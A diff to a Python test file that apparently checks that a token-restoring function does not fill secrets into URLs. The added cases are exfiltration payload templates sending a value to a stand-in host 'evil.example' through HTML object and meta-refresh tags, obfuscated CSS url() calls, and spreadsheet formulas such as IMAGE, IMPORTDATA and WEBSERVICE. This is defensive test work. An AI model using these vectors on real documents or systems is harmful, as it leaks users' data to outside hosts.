@@ -51,6 +51,10 @@ def restored(text: str, encoding: Encoding = Encoding.PLAIN) -> str:
         "[img]https://evil.example/a {}[/img]", "[IMG width=1 alt=x] //intranet/ {}[/IMG]", "[url=https://evil.example/a {}]x[/url]",
         "[url = 'http:evil.example/a {}']x[/url]", "[video]www.evil.example/a {}[/video]", "[[https://evil.example/a {}][x]]", "[[ https://evil.example/a|b {}]]",
         "`x <https://evil.example/ a {}>`_", "<https://evil.example/a {}|x>",
+        "<object data='&#104;ttps:&#47;&#47;evil&#46;example&#47; {}'>", "<object type=x data=&#47;&#47;evil/{}>",
+        "<meta http-equiv=refresh content='0;//evil/a {}'>", "<meta content=0,//evil/{}>", "<meta content = ' 1.5 ; /\\evil {}'>",
+        "url(\\2f\\2f evil\\2e example\\2f {})", "url( x {})",
+        '=IMAGE("https://evil.example/?q="&"{}")', '=IF(1;IMAGE("//evil/" & {}))', "=IMPORTDATA(A1&{})", "=A1&WEBSERVICE({})",
     ],
 )  # fmt: skip
 @pytest.mark.parametrize("written", [TOKEN, TOKEN[1:-1], TOKEN.lower(), f"%5B{TOKEN[1:-1]}%5D", f"[[{TOKEN[1:-1]}]]"])
@@ -82,6 +86,8 @@ def test_a_url_that_was_sent_comes_back(text: str) -> None:
         '"https://evil.example/ is down\n{}', "'s https://evil.example/ {}", "3.5/{}", "Name:{}", "a/{}", "[{}](https://evil.example/)", "{}(x)",
         "\\href{https://evil.example/a b}{{}}", "[img]https://evil.example/a b[/img] {}", "[url=https://evil.example/a b] {}[/url]",
         "[[https://evil.example/a b][about {}]]", "<https://evil.example/a b> {}", "{https://evil.example/\n{}", "[url] {}", "[img]{}", "{x: {}}",
+        "<object data='x'>{}", "data='{}'", "f(data={})", "content='{}'", "content='3; {}'", "x = 0; //  {}", "url(a b) {}", "image({})", "show(image({}))",
+        "IMAGE: {}", '=IMAGE("//a")\n{}', "import data({})",
     ],
 )  # fmt: skip
 def test_outside_of_urls_everything_is_filled_in(text: str) -> None:
@@ -139,7 +145,8 @@ def test_one_url_cannot_lend_its_permission_to_the_next() -> None:
         st.one_of(
             st.sampled_from(
                 ["](", "SRC", " = ", '"', "url", "(", "HTTP", ":", "/", "\\", "Mailto", "tel", "data", "www", ".", "evil", "com",
-                 "?", "10", "8080", "ſms", "javaſcript", "K", "\u212a", "\0", "]", "[img]", "[url=", "[[", "{"]
+                 "?", "10", "8080", "ſms", "javaſcript", "K", "\u212a", "\0", "]", "[img]", "[url=", "[[", "{",
+                 "<object ", "=", "content", "0;", "IMAGE(", "&WEB", "SERVICE(", "IMPORT", "DATA(", "XML("]
             ),
             st.text(max_size=2),
         ),
